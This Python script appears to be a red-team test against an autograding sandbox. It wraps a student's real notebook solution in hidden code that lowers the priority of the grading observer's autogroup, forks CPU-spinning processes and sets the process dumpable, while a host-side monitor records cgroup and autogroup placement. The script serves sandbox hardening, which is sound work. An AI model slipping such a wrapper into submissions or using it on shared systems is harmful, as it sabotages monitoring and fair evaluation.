"""a06: the autogroup side door of a02, for real as root. In a check's child (the observer's fork, same session as the
observer): prctl(PR_SET_DUMPABLE, 1), then write 19 into /proc/self/autogroup (the session's autogroup: the
observer's too), then 2 spinners that setsid() (fresh nice-0 autogroups) for 8 s. A host-side monitor reads every
sandbox-uid process's cpu cgroup and autogroup meanwhile. As root each sandbox has its own v1 cpu cgroup, where
autogroups do not apply: expect no effect. mallory = the solution + this in training_memory."""
import os, sys, threading, time, subprocess
sys.path.insert(0, os.path.dirname(__file__))
from common import course, scores, report
CLONE = __import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))
sys.path.insert(0, CLONE)
import nbformat
from tools.submissions import solution_text

src = nbformat.read(CLONE + "/source/ps1_memory/ps1_memory.ipynb", 4)
sol = {c.metadata["nbgrader"]["grade_id"]: solution_text(c) for c in src.cells
       if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"}
SIDE = r'''
def _autogroup_side():
    import ctypes, os, sys, time
    obs = sys.modules.get("probes.observer")
    if obs is None or not obs.ACTIVE:
        return
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    try:
        open("/proc/self/autogroup", "w").write("19")
    except OSError:
        pass
    for _ in range(2):
        if os.fork() == 0:
            os.setsid()
            end = time.time() + 8
            while time.time() < end:
                pass
            os._exit(0)
    time.sleep(8)
'''
code = SIDE + sol["training_memory"].replace("def training_memory(", "def _real_training_memory(", 1) + \
    "\n\ndef training_memory(*a, **k):\n    _autogroup_side()\n    return _real_training_memory(*a, **k)\n"

seen = {}
stop = [False]
def monitor():
    while not stop[0]:
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                uid = os.stat(f"/proc/{pid}").st_uid
                if not (65470 <= uid <= 65533):
                    continue
                cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")[:80].decode("ascii", "replace")
                cpu = [l for l in open(f"/proc/{pid}/cgroup").read().splitlines() if ":cpu:" in l or ":cpu," in l]
                ag = open(f"/proc/{pid}/autogroup").read().strip()
                key = (cmd[:40], ag)
                if key not in seen:
                    seen[key] = (uid, pid, cpu)
            except OSError:
                pass
        time.sleep(0.5)
t = threading.Thread(target=monitor, daemon=True); t.start()
root, p = course("a06", "ps1_memory", {"mallory": {"training_memory": code}})
stop[0] = True
print("scores:", scores(root))
print("report:", report(root))
for (cmd, ag), (uid, pid, cpu) in sorted(seen.items(), key=lambda kv: kv[1][1]):
    print(f"uid {uid} pid {pid} {ag:28s} {cpu} {cmd}")
